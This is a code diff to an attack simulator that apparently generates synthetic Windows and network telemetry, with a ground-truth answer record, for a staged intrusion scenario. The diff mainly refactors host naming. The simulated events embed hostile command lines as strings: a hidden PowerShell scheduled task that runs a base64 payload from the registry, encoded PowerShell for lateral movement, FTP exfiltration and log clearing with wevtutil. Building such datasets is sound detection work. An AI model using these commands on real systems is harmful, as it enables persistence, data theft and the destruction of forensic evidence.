@@ -182,7 +182,7 @@ export function buildAttack(ctx: Ctx, rng: Rng): { steps: Step[]; finish: () => 
     if (u.tProc !== null) at(u.tProc, () => {
       const r = rng.fork('ftpup-proc' + u.label);
       const cmd = u.interactive ? `"C:\\Windows\\system32\\ftp.exe"  ${domain}` : `"C:\\Windows\\system32\\ftp.exe"  -i -s:${u.script}`;
-      const parent = u.h === klag ? procs.get('ps-klag')! : procs.get('ps-btun')!;
+      const parent = u.h === klag ? procs.get('ps-' + klag.name)! : procs.get('ps-btun')!;
       const p = spawn(ctx, r, { t: u.tProc!, host: u.h, user: u.user, image: FTP_EXE, cmd, parent, cwd: `C:\\Users\\${u.user.account}\\AppData\\Roaming\\`, lifetimeUs: u.files.length * u.perFileUs + 60 * US_PER_S,
         net: [{ t: u.t0 + 1_000, proto: 'tcp', dst: v.ftpServer, dport: 21, portName: 'ftp', sport: 50000 + rng.int(0, 9999) }] });
       note(p, u.h, u.tProc!, u.user.sysmonUser, `exfiltration: transmission #${u.n}`);
@@ -244,7 +244,8 @@ export function buildAttack(ctx: Ctx, rng: Rng): { steps: Step[]; finish: () => 
     const p = spawn(ctx, r, { t: pdt(D1, 20, 45, 3), host: btun, user: uB, image: 'C:\\Windows\\System32\\schtasks.exe', cmd: `"C:\\Windows\\system32\\schtasks.exe" /Create /F /SC DAILY /ST 10:26 /TN Updater /TR "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NonI -W hidden -c \\"IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp HKLM:\\Software\\Microsoft\\Network debug).debug)))\\""`, parent: procs.get('ps-btun')!, integrity: 'High', elevation: 2, lifetimeUs: 400_000 });
     note(p, btun, pdt(D1, 20, 45, 3), uB.sysmonUser, 'persistence (scheduled task)');
   });
-  const lateral = [klag, venus, mercury];
+  // lateral movement reaches the second workstation, the tunnel host (venus in the default story) and the DC
+  const lateral = [...new Set([klag, tunnelHost, mercury])];
   at(pdt(D1, 20, 55, 13), () => {
     const r = rng.fork('lateral');
     lateral.forEach((target, i) => {
@@ -256,11 +257,11 @@ export function buildAttack(ctx: Ctx, rng: Rng): { steps: Step[]; finish: () => 
       const su = svc(target);
       const ps = spawn(ctx, r, { t: tt, host: target, user: su, image: PS_EXE, cmd: `powershell -noP -sta -w 1 -enc  ${PS_ENC}`, parent: wmi, noTerminate: true, integrity: 'High', elevation: 1,
         net: [{ t: tt + 1_500_000, proto: 'tcp', dst: v.c2, dport: 443, portName: 'https', sport: 49800 + i }] });
-      procs.set(target === klag ? 'ps-klag' : target === venus ? 'ps-venus' : 'ps-mercury', ps);
+      procs.set('ps-' + target.name, ps);
       note(ps, target, tt, su.sysmonUser, 'lateral movement (WMI, Empire)');
     });
   });
-  downloadSession('klag', klag, uK, pdt(D1, 20, 59, 56), pdt(D1, 20, 59, 54), () => procs.get('ps-klag')!);
+  downloadSession('klag', klag, uK, pdt(D1, 20, 59, 56), pdt(D1, 20, 59, 54), () => procs.get('ps-' + klag.name)!);
   at(pdt(D1, 21, 4, 12), () => {
     // a third run of the download script on the first host: the session never opened (no traffic) [?]
     const r = rng.fork('ftp3');
@@ -273,8 +274,8 @@ export function buildAttack(ctx: Ctx, rng: Rng): { steps: Step[]; finish: () => 
     at(t - 2 * US_PER_S, () => {
       const r = rng.fork('deny' + h.name);
       const su = svc(h);
-      const parent = procs.get(h === venus ? 'ps-venus' : h === mercury ? 'ps-mercury' : 'ps-venus') ?? rootProc(h, PS_EXE, 'powershell', 4000);
-      if (h.name === 'mercury' || h === mercury) {
+      const parent = procs.get('ps-' + h.name) ?? rootProc(h, PS_EXE, 'powershell', 4000);
+      if (h === mercury) {
         const p = spawn(ctx, r, { t: t - 2 * US_PER_S, host: h, user: su, image: FTP_EXE, cmd: `"C:\\Windows\\system32\\ftp.exe"  -i -s:${v.downloadScript}`, parent, lifetimeUs: 65 * US_PER_S });
         note(p, h, t - 2 * US_PER_S, su.sysmonUser, 'tool download (denied)');
       } else {
@@ -283,14 +284,14 @@ export function buildAttack(ctx: Ctx, rng: Rng): { steps: Step[]; finish: () => 
           net: [{ t, proto: 'tcp', dst: v.ftpServer, dport: 21, portName: 'ftp', sport: 50249 }] });
         note(p, h, t - 2 * US_PER_S, su.sysmonUser, 'tool download (denied)');
       }
-      if (h === venus) resolve(t - 500_000, h, LEVEL3_DNS); else resolve(t - 500_000, h, GOOGLE_DNS);
+      if (h === tunnelHost) resolve(t - 500_000, h, LEVEL3_DNS); else resolve(t - 500_000, h, GOOGLE_DNS);
       const times = ftpDenied(ctx, r, t, h.ip, v.ftpServer, `frothly\\${v.serviceAccount}`, 3);
       deniedTruth.push({ host: h.name, ip: h.ip, rule: 'block outbound FTP', attempts: times.map(isoMicro) });
     });
   });
 
   // ---------------------------------------------------------------- C2 beacons (Empire over HTTPS) from every compromised host
-  const c2Hosts: [Host, number][] = [[btun, pdt(D1, 20, 29, 9)], [klag, pdt(D1, 20, 55, 16)], [venus, pdt(D1, 20, 55, 17)], [mercury, pdt(D1, 20, 55, 18)]];
+  const c2Hosts: [Host, number][] = [[btun, pdt(D1, 20, 29, 9)], [klag, pdt(D1, 20, 55, 16)], [tunnelHost, pdt(D1, 20, 55, 17)], [mercury, pdt(D1, 20, 55, 18)]];
   const c2End = pdt(v.tunnelEndDay, 4, 0, 0);
   for (const [h, start] of c2Hosts) {
     const r = rng.fork('c2' + h.name);
@@ -351,7 +352,7 @@ export function buildAttack(ctx: Ctx, rng: Rng): { steps: Step[]; finish: () => 
   at(pdt(D2, 22, 30, 11), () => {
     const r = rng.fork('wevtutil');
     for (const [i, log] of ['Microsoft-Windows-Sysmon/Operational', 'Windows PowerShell'].entries()) {
-      const p = spawn(ctx, r, { t: pdt(D2, 22, 30, 11 + i * 2), host: klag, user: uK, image: 'C:\\Windows\\System32\\wevtutil.exe', cmd: `wevtutil  cl "${log}"`, parent: procs.get('ps-klag')!, integrity: 'High', elevation: 2, lifetimeUs: 300_000 });
+      const p = spawn(ctx, r, { t: pdt(D2, 22, 30, 11 + i * 2), host: klag, user: uK, image: 'C:\\Windows\\System32\\wevtutil.exe', cmd: `wevtutil  cl "${log}"`, parent: procs.get('ps-' + klag.name)!, integrity: 'High', elevation: 2, lifetimeUs: 300_000 });
       note(p, klag, pdt(D2, 22, 30, 11), uK.sysmonUser, 'indicator removal');
     }
   });
@@ -382,7 +383,7 @@ export function buildAttack(ctx: Ctx, rng: Rng): { steps: Step[]; finish: () => 
   at(pdt(D2, 22, 59, 39), () => {
     const r = rng.fork('py-dl');
     const su = svc(tunnelHost);
-    const p = spawn(ctx, r, { t: pdt(D2, 22, 59, 39), host: tunnelHost, user: su, image: 'C:\\Windows\\System32\\cscript.exe', cmd: 'cscript  download_py.vbs', parent: procs.get('ps-venus') ?? rootProc(tunnelHost, PS_EXE, 'powershell', 4100), cwd: 'C:\\temp\\', lifetimeUs: 50 * US_PER_S,
+    const p = spawn(ctx, r, { t: pdt(D2, 22, 59, 39), host: tunnelHost, user: su, image: 'C:\\Windows\\System32\\cscript.exe', cmd: 'cscript  download_py.vbs', parent: procs.get('ps-' + tunnelHost.name) ?? rootProc(tunnelHost, PS_EXE, 'powershell', 4100), cwd: 'C:\\temp\\', lifetimeUs: 50 * US_PER_S,
       net: [{ t: pdt(D2, 22, 59, 41), proto: 'tcp', dst: '151.101.24.223', dstHost: 'www.python.org', dport: 443, portName: 'https', sport: 51234 }] });
     note(p, tunnelHost, pdt(D2, 22, 59, 39), su.sysmonUser, 'tool transfer (python)');
     dnsLookup(ctx, r, { t: pdt(D2, 22, 59, 40), client: tunnelHost.ip, resolver: mercury.ip, qname: 'www.python.org', answers: ['151.101.24.223'], ttl: 3600 });
@@ -392,7 +393,7 @@ export function buildAttack(ctx: Ctx, rng: Rng): { steps: Step[]; finish: () => 
   at(pdt(D2, 23, 50, 36), () => {
     const r = rng.fork('msiexec');
     const su = svc(tunnelHost);
-    const p = spawn(ctx, r, { t: pdt(D2, 23, 50, 36), host: tunnelHost, user: su, image: 'C:\\Windows\\System32\\msiexec.exe', cmd: 'msiexec  /i c:\\temp\\download\\python.msi /qn /norestart', parent: procs.get('ps-venus') ?? rootProc(tunnelHost, PS_EXE, 'powershell', 4100), lifetimeUs: 14 * US_PER_S });
+    const p = spawn(ctx, r, { t: pdt(D2, 23, 50, 36), host: tunnelHost, user: su, image: 'C:\\Windows\\System32\\msiexec.exe', cmd: 'msiexec  /i c:\\temp\\download\\python.msi /qn /norestart', parent: procs.get('ps-' + tunnelHost.name) ?? rootProc(tunnelHost, PS_EXE, 'powershell', 4100), lifetimeUs: 14 * US_PER_S });
     note(p, tunnelHost, pdt(D2, 23, 50, 36), su.sysmonUser, 'tool install (python)');
   });
   const tunnelStart = pdt(D2, 23, 50, 54);
@@ -470,7 +471,7 @@ export function buildAttack(ctx: Ctx, rng: Rng): { steps: Step[]; finish: () => 
     truth.c2 = { ip: v.c2, ssl_issuer: v.c2Issuer, sessions: Object.fromEntries([...c2Sessions.entries()].sort()) };
     truth.processes = processes.sort((a, b) => String(a.time).localeCompare(String(b.time)));
     truth.accounts = { victim: v.victimUser, second: v.secondUser, service: v.serviceAccount };
-    truth.hosts = { staging_client: btun.name, second_client: klag.name, tunnel_host: tunnelHost.name, compromised: [btun.name, klag.name, venus.name, mercury.name], denied: denied.map((h) => h.name) };
+    truth.hosts = { staging_client: btun.name, second_client: klag.name, tunnel_host: tunnelHost.name, compromised: [btun.name, ...lateral.map((h) => h.name)], denied: denied.map((h) => h.name) };
     return truth;
   };
   void ephemeral;
